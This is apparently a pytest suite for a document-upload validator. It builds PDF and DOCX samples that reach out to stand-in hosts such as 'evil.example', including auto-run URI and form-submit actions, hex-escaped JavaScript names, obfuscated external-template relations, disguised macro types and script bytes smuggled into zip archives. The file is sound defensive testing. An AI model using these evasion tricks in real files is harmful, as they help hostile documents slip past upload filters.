"""Documents that reach out, or carry what another program reads as something else, however it is written."""

import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pytest

from backend.media.errors import ActiveContent, Unreadable
from tests.backend.media.pictures import office, pdf, photo
from tests.backend.media.test_documents import prepare

MACRO = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>'
OFFICE_TYPES = """<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml"
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""


def escaped(octets: bytes) -> bytes:
    """The same PDF with its names written by their numbers."""
    return octets.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/J#53 ")


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    """An action of a kind."""
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def clicked(what: pikepdf.Dictionary) -> bytes:
    """A PDF with a link that does something when it is clicked."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        link = pikepdf.Dictionary(Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=what)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])
        made.save(written)
    return written.getvalue()


def indirect(what: pikepdf.Dictionary) -> bytes:
    """A PDF whose catalogue points to an object of its own that is done at once."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        made.Root.OpenAction = made.make_indirect(what)
        made.save(written)
    return written.getvalue()


def address() -> pikepdf.Dictionary:
    """An action that opens an address; each belongs to one document."""
    return action("URI", URI=pikepdf.String("https://evil.example"))


def place() -> pikepdf.Array:
    """The first page."""
    return pikepdf.Array([0, pikepdf.Name("/Fit")])


def script() -> pikepdf.Dictionary:
    """An action that runs a script."""
    return action("JavaScript", JS=pikepdf.String("app.alert(1)"))


@pytest.mark.parametrize(
    "octets",
    [
        clicked(action("SubmitForm", F=pikepdf.String("https://evil.example"))),
        clicked(action("GoToR", F=pikepdf.String("//evil.example/share/a.pdf"))),
        clicked(action("ImportData", F=pikepdf.String("a.fdf"))),
        clicked(action("URI", URI=pikepdf.String("https://a"), Next=action("SubmitForm"))),
        pdf(OpenAction=address()),
        indirect(address()),
        pdf(OpenAction=action("GoTo", D=place(), Next=pikepdf.Array([address()]))),
        pdf(AA=pikepdf.Dictionary(WC=address())),
        escaped(pdf(OpenAction=script())),
        escaped(clicked(script())),
    ],
    ids=[
        "form sent",
        "file elsewhere",
        "data taken in",
        "form sent next",
        "address opened",
        "address opened by an object of its own",
        "address opened next",
        "address opened at the end",
        "names by their numbers",
        "names by their numbers in a link",
    ],
)
async def test_pdf_that_reaches_out_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


@pytest.mark.parametrize(
    "octets",
    [
        clicked(address()),
        pdf(OpenAction=place()),
        pdf(OpenAction=action("GoTo", D=place())),
        indirect(action("GoTo", D=place())),
    ],
    ids=["address to click", "place", "way to a place", "way by an object of its own"],
)
async def test_pdf_that_shows_itself_is_taken(octets: bytes) -> None:
    assert await prepare(octets) == "PDF"


def relations(inside: str, encoding: str = "utf-8") -> bytes:
    """A DOCX with these relations of its settings."""
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        f'<Relationships xmlns="{namespace}" xmlns:r="{namespace}">{inside}</Relationships>'
    )
    return office(word___rels__settings_dot_xml_dot_rels=text.encode(encoding))


OUT = '<Relationship Id="a" Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
CLICK = '<Relationship Id="a" Type="x/hyperlink" Target="https://a" TargetMode="External"/>'


@pytest.mark.parametrize(
    "octets",
    [
        relations(OUT.replace("evil/", "evil/hyperlink/")),
        relations(OUT.replace('Mode="External"', 'Mode = "External"')),
        relations(OUT.replace('"External"', "\n'External'")),
        relations(OUT.replace('"External"', '" external "')),
        relations(OUT.replace("External", "E&#120;ternal")),
        relations(OUT.replace("<Relationship ", "<Relationship\n")),
        relations(OUT.replace("<Relationship ", "<r:Relationship ")),
        relations(OUT.replace("x/attachedTemplate", "x/hyperlink/attachedTemplate")),
        relations(OUT.replace(' TargetMode="External"', "")),
        relations(OUT, "utf-16"),
        relations(CLICK + OUT, "utf-16"),
        relations('<Relationship Id="a" Type="x/vbaProject" Target="a.xml"/>'),
        office(types=OFFICE_TYPES.replace("</Types>", MACRO + "</Types>")),
    ],
    ids=[
        "hyperlink in the address",
        "spaces",
        "line and other quotes",
        "other letters",
        "letters by their numbers",
        "line after the name",
        "prefix",
        "hyperlink in the type",
        "address without a mode",
        "UTF-16",
        "UTF-16 behind a link",
        "macros under another name",
        "macros' type by numbers",
    ],
)
async def test_document_that_reaches_out_however_it_is_written_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


@pytest.mark.parametrize(
    "octets",
    [
        relations(OUT.removesuffix("/>")),
        office(word___rels__a_dot_rels=b'<!DOCTYPE Relationships [<!ENTITY e "x">]><Relationships/>'),
        office(word___rels__a_dot_rels=b"<!DOCTYPE Relationships SYSTEM 'http://evil'><Relationships/>"),
        office(word___rels__a_dot_rels=b'<?xml version="1.0" encoding="utf-7"?><Relationships/>'),
        relations(OUT.replace("Target=", 'r:TargetMode="Internal" Target=')),
        office(word___rels__a_dot_rels=b"<Others/>"),
        office(word___rels__a_dot_rels=b""),
        office(types="<Types"),
    ],
)
async def test_relations_that_nobody_can_read_for_certain_are_refused(octets: bytes) -> None:
    with pytest.raises(Unreadable):
        await prepare(octets)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
async def test_links_to_click_are_taken_in_each_encoding(encoding: str) -> None:
    assert await prepare(relations(CLICK, encoding)) == "DOCX"


def archive(**at: bytes) -> bytes:
    """A DOCX with octets `between` its parts, `before_the_end` or as a `remark` of a part."""
    read = zipfile.ZipFile(BytesIO(office()))
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for place, part in enumerate(read.infolist()):
            if place and "between" in at:
                written.write(at["between"])
                made.start_dir = written.tell()
            info = zipfile.ZipInfo(part.filename)
            info.comment = at.get("remark", b"")
            made.writestr(info, read.read(part), zipfile.ZIP_DEFLATED)
        if "before_the_end" in at:
            written.write(at["before_the_end"])
            made.start_dir = written.tell()
    return written.getvalue()


def within_a_part(octets: bytes) -> bytes:
    """A DOCX with octets behind the packed ones of a part, counted to it."""
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(b"<x/>") + packer.flush() + octets
    written = bytearray(office(word__a_dot_xml=b"", word__b_dot_xml=b""))
    stored = BytesIO(bytes(written))
    with zipfile.ZipFile(stored, "a", zipfile.ZIP_STORED) as made:
        made.writestr("word/c.xml", packed)
    written = bytearray(stored.getvalue())
    crc = zlib.crc32(b"<x/>").to_bytes(4, "little")
    for mark, method, sum_at, size_at in ((b"PK\x03\x04", 8, 14, 22), (b"PK\x01\x02", 10, 16, 24)):
        at = written.rindex(mark)
        written[at + method : at + method + 2] = (8).to_bytes(2, "little")
        written[at + sum_at : at + sum_at + 4] = crc
        written[at + size_at : at + size_at + 4] = (4).to_bytes(4, "little")
    return bytes(written)


def local_lie() -> bytes:
    """A DOCX whose first part says another method where it begins than in the list at the end."""
    written = bytearray(office())
    written[8:10] = (0).to_bytes(2, "little")
    return bytes(written)


@pytest.mark.parametrize(
    "octets",
    [
        office() + b"<script>alert(1)</script>",
        office() + b"\0",
        office() + photo(),
        office() + office(),
        archive(between=b"<script>"),
        archive(before_the_end=b"<script>"),
        archive(remark=b"<script>"),
        within_a_part(b"<script>"),
        local_lie(),
    ],
    ids=[
        "page",
        "octet",
        "photo",
        "archive",
        "between",
        "before the end",
        "remark",
        "in a part",
        "two words",
    ],
)
async def test_archive_with_something_of_somebody_else_is_refused(octets: bytes) -> None:
    with pytest.raises(Unreadable):
        await prepare(octets)


class Pipe(BytesIO):
    """What can't be gone back in: sizes are written behind each part."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: Any) -> int:
        raise OSError


def piped() -> bytes:
    """A DOCX as a program writes it that never goes back."""
    read, written = zipfile.ZipFile(BytesIO(office())), Pipe()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for part in read.infolist():
            made.writestr(part.filename, read.read(part))
    return written.getvalue()


@pytest.mark.parametrize(
    "octets", [archive(), piped(), within_a_part(b"")], ids=["rewritten", "piped", "packed by hand"]
)
async def test_plain_archive_is_taken(octets: bytes) -> None:
    assert await prepare(octets) == "DOCX"
